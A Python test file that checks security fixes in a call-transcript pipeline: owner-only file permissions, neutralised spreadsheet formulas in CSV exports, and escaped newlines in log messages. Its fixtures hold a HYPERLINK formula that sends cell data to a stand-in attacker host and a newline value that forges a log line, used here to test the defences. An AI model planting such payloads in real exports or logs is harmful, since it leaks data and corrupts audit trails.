"""Three findings of the security review (issue 17, "the lows"), each reproduced and fixed
at its cause: what callstream writes is readable by its own user only, a CSV export
cannot carry a formula into a spreadsheet, and a text log line cannot be forged."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat

from models.events import CallEnded, CallStarted, ParticipantJoined, Sentiment, TranscriptFinal
from pipeline.cli.log_setup import OneLineFormatter
from pipeline.compliance.export import export_lines
from pipeline.compliance.manifest import manifest_path, write_export

from .test_export_formats import build_store

CALL = "private-call"
CUST = "4:+15550100"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 555 0100 is my number",
    "-2+3 that's what I was told",
    "@SUM(1,1)",
)


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def _events() -> list:
    finals = [
        TranscriptFinal(
            callId=CALL,
            participant=CUST,
            role="customer",
            utteranceId=f"u{i}",
            startMs=i * 1000,
            endMs=i * 1000 + 900,
            text=text,
            language="en-US",
            confidence=0.9,
            source="acs",
        )  # fmt: skip
        for i, text in enumerate(FORMULAS, start=1)
    ]
    mood = Sentiment(
        callId=CALL, participant=CUST, utteranceId="u1", label="negative", score=-0.5,
        rollingScore=-0.5,
    )  # fmt: skip
    return [
        CallStarted(callId=CALL, mode="unmixed", sampleRate=16000),
        ParticipantJoined(callId=CALL, participant=CUST, role="customer"),
        *finals,
        mood,
        CallEnded(callId=CALL, reason="hangup"),
    ]


def test_the_store_and_exports_are_owner_only(tmp_path) -> None:
    data_dir = tmp_path / "callstream-data"
    store = build_store(data_dir / "callstream.db", _events(), CALL)
    try:
        assert _mode(data_dir) == 0o700
        for name in ("callstream.db", "callstream.db-wal", "callstream.db-shm"):
            assert _mode(data_dir / name) == 0o600, name
        out = tmp_path / "export.csv"
        out.write_text("an older file, world-readable\n")
        os.chmod(out, 0o644)
        write_export(store, CALL, "csv", out, export_lines(store, CALL, "csv"))
        assert _mode(out) == 0o600 and _mode(manifest_path(out)) == 0o600
    finally:
        store.close()


def test_a_store_path_in_a_folder_the_user_made_leaves_the_folder_alone(tmp_path) -> None:
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    store = build_store(folder / "events.db", _events(), CALL)
    store.close()
    assert _mode(folder) == 0o755 and _mode(folder / "events.db") == 0o600


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_text(tmp_path) -> None:
    store = build_store(tmp_path / "db", _events(), CALL)
    try:
        rows = list(
            csv.DictReader(io.StringIO(b"".join(export_lines(store, CALL, "csv")).decode()))
        )
    finally:
        store.close()
    texts = [r["text"] for r in rows]
    assert texts == ["'" + t for t in FORMULAS]  # shown as text, and nothing else changed
    for r in rows:
        for column, cell in r.items():
            if column != "sentiment_score":
                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
    # A number stays a number: the negative sentiment score is not made text.
    assert rows[0]["sentiment_score"] == "-0.5"


def test_a_newline_in_a_logged_value_cannot_forge_a_log_line() -> None:
    forged = "c1\n2026-12-07 10:00:00,000 ERROR callstream: admin token leaked"
    record = logging.LogRecord(
        "pipeline.ingest.media", logging.WARNING, __file__, 1,
        "media connection for call %s refused", (forged,), None,
    )  # fmt: skip
    line = OneLineFormatter("%(asctime)s %(levelname)s %(name)s: %(message)s").format(record)
    assert "\n" not in line and "\r" not in line
    assert "c1\\n2026-12-07" in line  # escaped, still readable
    # A traceback still gets its own lines (DEBUG), only the message is one line.
    try:
        raise ValueError("boom")
    except ValueError:
        import sys

        record.exc_info = sys.exc_info()
    assert OneLineFormatter().format(record).count("\n") >= 2
